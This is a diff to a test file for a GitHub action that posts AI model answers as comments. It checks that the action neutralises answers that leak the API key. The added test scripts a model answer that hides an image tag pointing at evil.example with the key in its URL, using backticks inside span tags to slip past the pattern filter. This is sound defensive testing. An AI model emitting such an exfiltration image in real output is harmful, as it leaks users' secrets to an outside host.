@@ -3,6 +3,8 @@
  * answer (RFC-005): encoded keys and images on other hosts, through the bundled action and the
  * fake GitHub API; and to ping people it names. Fails when redaction, link or mention neutralizing is taken out.
  */
+import { micromark } from 'micromark';
+import { gfm, gfmHtml } from 'micromark-extension-gfm';
 import { afterEach, beforeEach, expect, it } from 'vitest';
 import { issueComment, REPOSITORY } from '../harness/payloads.js';
 import { startWorld, type World } from '../harness/world.js';
@@ -50,4 +52,16 @@ it('an answer that encodes the key, links an image elsewhere or @-mentions peopl
   }
   expect(posted).toContain('ok (image removed: evil.example)');
   expect(posted).toContain('https://github.com/Codertocat/Hello-World/pull/2');
+});
+
+it("an answer whose image hides where the patterns see code (a backtick inside a tag) is posted as text that renders nothing (attacker review, stop 43)", async () => {
+  world.model.script({ text: `Done. <span title="\`"></span><img src="https://evil.example/i.png?d=${KEY}"><span title="\`"></span> Thanks.` });
+  const run = await world.runEvent('issue_comment', issueComment({ issue, body: '/recall fix it' }), '9602', { repository: REPOSITORY, env: { FAKE_API_KEY: KEY } });
+  expect(run.main.exitCode, run.main.stdout).toBe(0);
+  const posted = world.github.commentsOn(51).filter((c) => c.author !== 'octocat').map((c) => c.body).join('\n');
+  // As GitHub would render it: no image, the key redacted.
+  const html = micromark(posted, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+  expect(html).not.toMatch(/<img\b/);
+  expect(posted).toContain('Recall shows this answer as plain text');
+  expect(posted).not.toContain(KEY);
 });
